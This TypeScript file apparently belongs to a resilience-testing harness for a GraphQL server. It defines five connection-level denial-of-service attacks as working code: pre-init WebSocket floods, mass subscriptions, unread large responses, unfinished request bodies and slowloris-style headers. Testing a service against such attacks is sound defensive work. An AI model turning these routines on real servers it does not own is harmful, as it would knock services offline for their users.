import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { createClient } from 'graphql-ws';
import { WebSocket } from 'ws';
import { type Attack, pause, repeat, type Target } from '../attack.ts';
import { listCancellable } from '../client.ts';

/** Connections that send too much, too little, or read nothing. */
export const connectionAttacks: readonly Attack[] = [
  {
    name: 'websocket-before-init',
    title: 'four WebSockets without connection_init, each sending 1 MB of [ again and again',
    run: ({ origin }, signal) =>
      repeat(4, signal, async () => {
        const socket = new WebSocket(`${origin.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
        // Also rejects if the target stops before the socket is open.
        const closed = once(socket, 'close').catch(() => {});
        socket.on('error', () => {});
        await once(socket, 'open');
        const brackets = '['.repeat(1_000_000);
        while (!signal.aborted && socket.readyState === WebSocket.OPEN) {
          socket.send(brackets);
          await Promise.race([closed, pause(100, signal)]);
        }
        socket.terminate();
      }),
  },
  {
    name: 'subscriptions',
    title: 'five WebSockets with 100 subscriptions of 200 ids each',
    async run(target, signal) {
      const ids = (await listCancellable(target, target.keys.reader, ['kylin', 'aodocs'], 200)).slice(0, 200);
      const clients = Array.from({ length: 5 }, () => {
        const url = `${target.origin.replace('http', 'ws')}/graphql`;
        const connectionParams = { authorization: `Bearer ${target.keys.reader}` };
        return createClient({ url, webSocketImpl: WebSocket, connectionParams, retryAttempts: 1_000, shouldRetry: () => !signal.aborted });
      });
      const query = 'subscription ($ids: [ID!]!) { jobsChanged(ids: $ids) { id name status owner type createdAt progress { fraction } } }';
      const stops = clients.flatMap((client) =>
        Array.from({ length: 100 }, () => client.subscribe({ query, variables: { ids } }, { next() {}, error() {}, complete() {} })),
      );
      await pause(1e9, signal);
      for (const stop of stops) stop();
      await Promise.all(clients.map((client) => client.dispose()));
    },
  },
  {
    name: 'unread-answers',
    title: '300 connections that ask for pages of 500 jobs and read nothing',
    run: (target, signal) => {
      const query = '{ jobs(first: 500) { nodes { id name status owner type createdAt actions { action available reason } raw } } }';
      return keepConnections(300, target, signal, (socket) => {
        socket.pause();
        const body = JSON.stringify({ query });
        for (let each = 0; each < 5; each += 1) socket.write(head(target, body.length) + body);
      });
    },
  },
  {
    name: 'unfinished-bodies',
    title: '800 connections whose bodies of 1 MB lack the last byte',
    run: (target, signal) =>
      keepConnections(800, target, signal, (socket) => {
        socket.write(head(target, 1_000_000));
        socket.write(Buffer.alloc(999_999, ' '));
      }),
  },
  {
    name: 'slow-headers',
    title: '500 connections that send one byte of a header each second',
    run: (target, signal) =>
      keepConnections(500, target, signal, async (socket) => {
        socket.write('POST /graphql HTTP/1.1\r\nhost: localhost\r\nx-slow: ');
        while (!socket.destroyed && !signal.aborted) {
          socket.write('a');
          await pause(1_000, signal);
        }
      }),
  },
];

/** Keeps `count` connections open: uses each once, keeps it until the server ends it, and then opens another. */
async function keepConnections(
  count: number,
  { origin }: Target,
  signal: AbortSignal,
  use: (socket: Socket) => void | Promise<void>,
): Promise<void> {
  const { hostname, port } = new URL(origin);
  await repeat(count, signal, async (index) => {
    // Not all in the same moment.
    await pause(index * 5, signal);
    const socket = connect(Number(port), hostname);
    const closed = once(socket, 'close');
    socket.on('error', () => {});
    await once(socket, 'connect');
    void use(socket);
    const end = (): void => void socket.destroy();
    signal.addEventListener('abort', end);
    await closed;
    signal.removeEventListener('abort', end);
  });
}

function head({ keys }: Target, length: number): string {
  return `POST /graphql HTTP/1.1\r\nhost: 127.0.0.1\r\nauthorization: Bearer ${keys.reader}\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`;
}
